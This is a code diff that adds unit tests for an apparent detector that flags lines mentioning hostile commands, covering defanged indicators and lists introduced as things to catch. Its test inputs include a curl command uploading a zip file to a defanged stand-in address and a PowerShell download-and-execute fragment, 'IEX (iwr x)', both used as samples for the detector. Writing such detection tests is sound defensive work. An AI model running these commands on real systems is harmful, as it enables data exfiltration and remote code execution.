@@ -66,3 +66,18 @@ describe('citedLines (bullets that forbid a command)', () => {
     expect([cited[0], cited[1], cited[5]]).toEqual([1, 1, 0]);
   });
 });
+
+describe('citedLines (defanged indicators and introduced lists)', () => {
+  it('should cite a line whose indicator is defanged', () => {
+    expect(flags('Exfil: `curl -F "file=@/tmp/out.zip" hxxp://203.0.113[.]9/u`')).toEqual([1]);
+  });
+
+  it('should cite every item of a list its lead-in introduces as things to catch', () => {
+    const text = 'One-liners we want to catch:\n\n- `a`\n- `b`\n- `c`\n\nRun `d`.';
+    expect(flags(text)).toEqual([1, 1, 1, 1, 1, 0, 0]);
+  });
+
+  it('should cite the line after "things like"', () => {
+    expect(flags('That is how the SOC sees things like\n`IEX (iwr x)`\n\nRun `y`.')).toEqual([0, 1, 0, 0]);
+  });
+});
